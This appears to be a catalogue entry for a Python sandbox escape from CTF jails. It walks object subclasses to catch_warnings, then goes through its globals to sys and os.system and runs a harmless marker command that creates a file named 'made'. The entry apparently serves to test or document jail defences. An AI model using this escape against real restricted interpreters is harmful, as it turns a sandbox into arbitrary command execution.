"""The class catch_warnings, found below object, leads to sys and so to every module.

Known from: CTF jails of Python 2 and 3, where it was number 59 of the list
Effect: made
Host: import warnings
Jail: no builtins
"""
for cls in ().__class__.__base__.__subclasses__():
    if cls.__name__ == "catch_warnings":
        cls.__init__.__globals__["sys"].modules["os"].system(": > made")
